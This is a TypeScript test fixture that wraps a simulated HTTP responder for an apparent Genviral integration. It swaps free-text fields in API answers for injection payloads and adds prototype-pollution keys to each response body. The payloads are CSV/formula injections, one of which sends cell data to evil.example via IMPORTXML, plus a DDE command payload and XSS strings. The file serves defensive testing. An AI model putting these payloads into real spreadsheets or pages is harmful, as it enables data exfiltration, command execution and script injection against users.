// A Genviral that answers with poison: whatever is free text in an answer comes back as something that a spreadsheet, a
// page or an object could take for more than text. Names of things, states, times and numbers stay, or nothing would work.
import type { HttpAnswerer } from '../../local/host/index';

/** Keys whose text is not free: ids, words of a closed list, times, addresses of things. */
const STRUCTURE =
  /^(id|.*_id|.*Id|platform|type|status|scope|tier|billing_interval|by_status|error_code|.*_at|.*At|.*_on|day|date|start|end|key|kind|.*content_kinds|contentType|timezone|interval|url|urls|normalized_identifier)$/;

const POISON = [
  '=IMPORTXML("https://evil.example/?"&A1,"//a")',
  '=HYPERLINK("https://evil.example","click")',
  '+IMAGE("https://evil.example/1.png")',
  '-2+3+cmd|"/c calc"!A0',
  '@SUM(1+1)',
  '\t=1+1',
  "'=1+1",
  '<img src=x onerror="google.script.run.genviralSend()">',
  '"><script>alert(1)</script>',
  '__proto__',
  '12345678901234567890',
  '03/04/2026',
];

/** A JSON value with its free texts replaced: `replace` gives the text that stands for the one under a key. */
function poisoned(value: unknown, replace: (text: string, key: string) => string, key = ''): unknown {
  if (typeof value === 'string') return replace(value, key);
  if (Array.isArray(value)) return value.map((one) => poisoned(one, replace, key));
  if (typeof value !== 'object' || value === null) return value;
  const entries = Object.entries(value).map(([name, one]) => [name, poisoned(one, replace, name)] as const);
  return Object.fromEntries(entries);
}

/**
 * The same network, with poison in every answer, and keys that reach for prototypes.
 * @param spared keys whose text stays
 */
export function poisonedNetwork(http: HttpAnswerer, spared: RegExp): HttpAnswerer {
  let given = 0;
  const replace = (text: string, key: string): string => {
    if (STRUCTURE.test(key) || spared.test(key)) return text;
    given += 1;
    // Numbered: two accounts with the same name would be refused for another reason.
    return `${POISON[given % POISON.length] ?? ''} ${String(given)}`;
  };
  return (calls) =>
    http(calls).map((answer) => {
      if ('failure' in answer || typeof answer.body !== 'string') return answer;
      const body = JSON.stringify(poisoned(JSON.parse(answer.body), replace));
      // A parser that copies keys one by one would set the prototype of what it copies to.
      return {
        ...answer,
        body: body.replace(/^\{/, '{"__proto__":{"polluted":true},"constructor":{"polluted":true},'),
      };
    });
}
